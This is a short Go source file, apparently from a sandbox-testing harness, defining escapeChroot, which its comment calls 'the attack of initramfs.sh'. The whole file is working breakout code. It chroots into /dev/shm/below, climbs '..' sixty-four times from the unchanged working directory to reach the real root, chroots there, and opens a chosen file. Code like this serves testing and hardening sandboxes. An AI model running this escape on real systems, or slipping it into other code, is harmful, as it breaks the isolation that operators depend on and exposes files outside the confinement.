package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

const escape = "escape-chroot"

// escapeChroot is the attack of initramfs.sh: chroot(2) does not change the working directory. So the attack follows
// ".." from there up to the real root, and makes that its root.
func escapeChroot(want string) error {
	if err := os.MkdirAll("/dev/shm/below", 0o755); err != nil {
		return err
	}
	if err := unix.Chroot("/dev/shm/below"); err != nil {
		return fmt.Errorf("chroot: %w", err)
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("chdir ..: %w", err)
		}
	}
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("chroot .: %w", err)
	}
	f, err := os.Open(want)
	if err != nil {
		return err
	}
	return f.Close()
}
